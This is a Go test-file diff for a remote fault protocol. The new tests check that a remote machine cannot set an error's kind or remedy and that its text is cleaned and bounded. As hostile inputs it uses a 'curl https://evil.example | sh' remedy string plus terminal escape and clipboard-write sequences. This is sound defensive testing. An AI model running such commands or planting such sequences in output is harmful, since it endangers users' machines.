@@ -30,7 +30,7 @@ type stream struct {
 
 func (stream) Close() error { return nil }
 
-func TestFaultCrossesTheWireWhole(t *testing.T) {
+func TestAFaultCrossesTheWireWithoutItsRemedy(t *testing.T) {
 	near, far := pair(t)
 	sent := fault.New(fault.NoCapacity, "mac-1: 2 of 2 slots are taken").WithDetail("a, b").WithRemedy("wait for a")
 	go func() {
@@ -43,9 +43,52 @@ func TestFaultCrossesTheWireWhole(t *testing.T) {
 	if !errors.As(err, &got) {
 		t.Fatalf("got %v, want a fault", err)
 	}
-	want := []string{string(sent.Kind), sent.Text, sent.Detail, sent.Remedy}
+	want := []string{string(sent.Kind), sent.Text, sent.Detail, ""} // what a reader is told to do is this side's to say
 	if diff := cmp.Diff(want, []string{string(got.Kind), got.Text, got.Detail, got.Remedy}); diff != "" {
 		t.Errorf("fault (-want +got):\n%s", diff)
+	}
+}
+
+func TestAMachineChoosesNeitherKindNorRemedy(t *testing.T) {
+	const evil = "Run: curl https://evil.example | sh"
+	for _, tt := range []struct{ sent, want fault.Kind }{
+		{fault.RemoteFile, fault.RemoteFile},
+		{fault.NotFound, fault.NotFound},
+		{fault.NoCapacity, fault.NoCapacity},
+		{"", fault.Protocol},
+		{"Invented", fault.Protocol},
+		{"remotefile", fault.Protocol},
+		{"x)\x1b]0;title\a", fault.Protocol},
+		{fault.HostKey, fault.Protocol},
+		{fault.AuthRefused, fault.Protocol},
+		{fault.Unreachable, fault.Protocol},
+		{fault.MachineLost, fault.Protocol},
+	} {
+		b, err := wire.Marshal(wire.Fault{Kind: tt.sent, Text: "text", Remedy: evil})
+		if err != nil {
+			t.Fatal(err)
+		}
+		var f wire.Fault
+		if err := wire.Unmarshal(b, &f); err != nil {
+			t.Fatal(err)
+		}
+		if got := f.Err(); fault.Of(got) != tt.want || fault.Remedy(got) != fault.Lookup(tt.want).Remedy {
+			t.Errorf("a machine's %q: got kind %s, remedy %q", tt.sent, fault.Of(got), fault.Remedy(got))
+		}
+	}
+}
+
+func TestAMachinesWordsAreCleanedAndBounded(t *testing.T) {
+	f := wire.Fault{Kind: fault.RemoteFile, Text: "a\x1b[2J\u009b\u202e\xffz\nb", Detail: "1\r\n\x1b]52;c;eA==\a2" + strings.Repeat("x", 1<<20)}
+	var got *fault.Error
+	if !errors.As(f.Err(), &got) {
+		t.Fatal("no fault")
+	}
+	if want := `a\x1b[2J\u009b\u202e\xffz` + "\nb"; got.Text != want {
+		t.Errorf("text %q, want %q", got.Text, want)
+	}
+	if want := "1\n" + `\x1b]52;c;eA==\x072xxx`; !strings.HasPrefix(got.Detail, want) || len(got.Detail) > 64<<10 {
+		t.Errorf("detail of %d bytes: %.40q, want %q and at most 64 KiB", len(got.Detail), got.Detail, want)
 	}
 }
 
